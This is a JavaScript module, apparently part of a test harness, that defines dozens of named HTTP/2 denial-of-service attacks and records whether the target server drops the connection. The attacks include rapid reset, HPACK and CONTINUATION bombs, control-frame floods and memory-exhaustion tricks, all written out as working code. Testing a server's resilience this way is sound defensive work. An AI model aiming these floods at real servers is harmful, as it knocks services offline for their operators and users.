// Attacks on HTTP/2, by name; run in a thread of its own (attacker.mjs) so that they cost the innocent nothing here.
//
// Each gets where to connect and gives {cut}: whether the server hung up on it. They end by themselves.
import { ERROR, FLAG, PREFACE, Raw, SETTING, TYPE, data, field, frame, headers, ping, priority, request, rst, settings, u32,
  windowUpdate } from "./frames.mjs";

const GET = request("GET", "/store/v1/products?limit=1");
const POST = request("POST", "/store/v1/carts");

const repeat = (count, make) => Array.from({ length: count }, (_, i) => make(i));

/** Sends what `make(i)` gives, in pieces, until `count` or until the server has had enough. */
async function flood(place, count, make, { setup = [], pairs = [], reads = true, patienceMs = 1500 } = {}) {
  const raw = await Raw.connect(place, { pairs, reads });
  await raw.send(...setup);
  for (let i = 0; i < count; i += 50) {
    if (!(await raw.send(...repeat(Math.min(50, count - i), (k) => make(i + k))))) break;
  }
  const cut = await raw.ended(patienceMs);
  const resets = raw.frames.filter((f) => f.type === TYPE.RST_STREAM).length;
  raw.close();
  return { cut, resets, goaway: raw.goaway };
}

const id = (i) => 2 * i + 1;
const onEach = (count, make, options) => (place) => flood(place, count, (i) => Buffer.concat(make(id(i))), options);
const ofOne = (count, make, options) => (place) => flood(place, count, make, options);

/** A field of 4,000 bytes goes into the table once; then `count` times a byte that means all of it. */
const bomb = (count, name = "x", value = "a".repeat(4000)) => (stream) => headers(stream, Buffer.concat([
  ...GET.map(([n, v]) => field(n, v)), field(name, value, true), Buffer.alloc(count, 0x80 | 62)]));
/** 31 bits a key at most, none of them fixed, and then a key in each bit. */
const DIGEST = `-D${"_".repeat(3998)}`;

async function openBodies(place) {
  return flood(place, 100, (i) => Buffer.concat([headers(id(i), POST, { end: false }),
    ...repeat(14, () => data(id(i), Buffer.alloc(16384)))]));
}

async function bodiesOfMany(place) {
  const raws = await Promise.all(repeat(40, () => Raw.connect(place)));
  const results = await Promise.all(raws.map(async (raw) => {
    for (let i = 0; i < 3; ++i) {
      const pieces = repeat(60, () => data(id(i), Buffer.alloc(16384)));
      if (!(await raw.send(headers(id(i), POST, { end: false }), ...pieces))) return true;
    }
    return raw.ended(500);
  }));
  for (const raw of raws) raw.close();
  return { cut: results.some((cut) => cut) };
}

async function manyRequestsUnread(place) {
  const raws = await Promise.all(repeat(20, () => Raw.connect(place, { reads: false, pairs: [[SETTING.INITIAL_WINDOW_SIZE, 2 ** 24]] })));
  for (const raw of raws) await raw.send(windowUpdate(0, 2 ** 24), ...repeat(100, (i) => headers(id(i), request("GET", "/openapi.json"))));
  await Promise.all(raws.map((raw) => raw.ended(1500)));
  for (const raw of raws) raw.close();
  return { cut: false };
}

async function garbage(place) {
  const first = await Raw.connect(place, { hello: false });
  await first.send(Buffer.alloc(20000, "GET / HTTP/1.1\r\n"));
  const second = await Raw.connect(place);
  await second.send(Buffer.alloc(200000, 0xff));
  const ends = [await first.ended(1500), await second.ended(1500)];
  first.close();
  second.close();
  return { cut: ends.every((e) => e) };
}

export const ATTACKS = {
  // resets: the client's own, and those that it makes the server send
  "rapid reset": onEach(20000, (s) => [headers(s, GET), rst(s)]),
  "rapid reset of what is answered at once": onEach(20000, (s) => [headers(s, request("GET", "/static/none")), rst(s)]),
  "rapid reset of bodies": onEach(20000, (s) => [headers(s, POST, { end: false }), rst(s)]),
  "made you reset: a window that runs over": onEach(20000, (s) => [headers(s, GET), windowUpdate(s, 1)],
    { pairs: [[SETTING.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]] }),
  "made you reset: a window in wide steps": onEach(5000, (s) => [headers(s, GET), ...repeat(9, () => windowUpdate(s, 2 ** 28))]),
  "made you reset: a window by nothing": onEach(5000, (s) => [headers(s, GET), windowUpdate(s, 0)]),
  "made you reset: data after the end": onEach(5000, (s) => [headers(s, GET), data(s, "x")]),
  "made you reset: headers after the end": onEach(5000, (s) => [headers(s, GET), headers(s, GET)]),
  "made you reset: a stream that depends on itself": onEach(5000, (s) => [headers(s, GET), priority(s, s)]),
  "made you reset: a window update of 3 bytes": onEach(5000, (s) => [headers(s, GET), frame(TYPE.WINDOW_UPDATE, 0, s, Buffer.alloc(3))]),
  "made you reset: a priority of 4 bytes": onEach(5000, (s) => [headers(s, GET), frame(TYPE.PRIORITY, 0, s, Buffer.alloc(4))]),
  "made you reset: a length that is not the body's": onEach(5000, (s) => [
    headers(s, [...POST, ["content-length", "5"]], { end: false }), data(s, "xx", true)]),
  "requests without a path": onEach(5000, (s) => [headers(s, [[":method", "GET"], [":scheme", "https"]])]),
  // headers
  "HPACK bomb in one frame": onEach(50, (s) => [bomb(12000)(s)]),
  "HPACK bomb of many small requests": onEach(5000, (s) => [bomb(110)(s)]),
  "HPACK bomb by CONTINUATION": onEach(20, (s) => [
    headers(s, Buffer.concat([...GET.map(([n, v]) => field(n, v)), field("x", "a".repeat(4000), true)]), { flags: 0 }),
    ...repeat(60, () => frame(TYPE.CONTINUATION, 0, s, Buffer.alloc(16000, 0x80 | 62)))]),
  "cache-digest bomb": onEach(50, (s) => [bomb(110, "cache-digest", DIGEST)(s)]),
  "CONTINUATION without end": (place) => flood(place, 100000, () => frame(TYPE.CONTINUATION, 0, 1, Buffer.alloc(0)),
    { setup: [headers(1, GET, { flags: 0 })] }),
  "a table that shrinks and grows": onEach(200, (s) => [headers(s, Buffer.concat([
    ...repeat(3000, (i) => (i % 2 ? Buffer.from([0x3f, 0xe1, 0x1f]) : Buffer.from([0x20]))), ...GET.map(([n, v]) => field(n, v))]))]),
  // floods of frames that cost nothing to send
  "SETTINGS flood": ofOne(50000, () => settings()),
  "SETTINGS of 2,700 values": ofOne(1000, () => settings(repeat(2700, (i) => [SETTING.INITIAL_WINDOW_SIZE, i]))),
  "PING flood": ofOne(50000, () => ping()),
  "PING flood, answers unread": ofOne(200000, () => ping(), { reads: false }),
  "empty DATA flood": ofOne(50000, () => data(1, ""), { setup: [headers(1, POST, { end: false })] }),
  "DATA of nothing but padding": ofOne(50000, () => frame(TYPE.DATA, FLAG.PADDED, 1, Buffer.alloc(100, 99)),
    { setup: [headers(1, POST, { end: false })] }),
  "PRIORITY flood": ofOne(50000, (i) => priority(id(i % 1000), id((i + 7) % 1000), i % 256)),
  "GOAWAY flood": ofOne(50000, () => frame(TYPE.GOAWAY, 0, 0, Buffer.concat([u32(0), u32(ERROR.NO_ERROR)]))),
  "unknown frames": ofOne(200000, (i) => frame(16 + (i % 200), 255, i, Buffer.alloc(i % 50))),
  "WINDOW_UPDATE by one": ofOne(50000, () => windowUpdate(1, 1), { setup: [headers(1, request("GET", "/openapi.json"))],
    pairs: [[SETTING.INITIAL_WINDOW_SIZE, 0]] }),
  // memory
  "unfinished bodies on one connection": openBodies,
  "unfinished bodies on many connections": bodiesOfMany,
  "answers that nobody reads": manyRequestsUnread,
  "windows that change under unread answers": ofOne(1500,
    (i) => Buffer.concat([settings([[SETTING.INITIAL_WINDOW_SIZE, i % 2 ? 65535 : 1]]), windowUpdate(id(i % 90), 1)]),
    { setup: repeat(90, (i) => headers(id(i), request("GET", "/openapi.json"))), reads: false }),
  "a frame longer than allowed": ofOne(1, () => frame(TYPE.HEADERS, 5, 1, Buffer.alloc(100000), 100000)),
  garbage,
  "one preface after the other": ofOne(1000, () => Buffer.concat([PREFACE, settings()])),
};
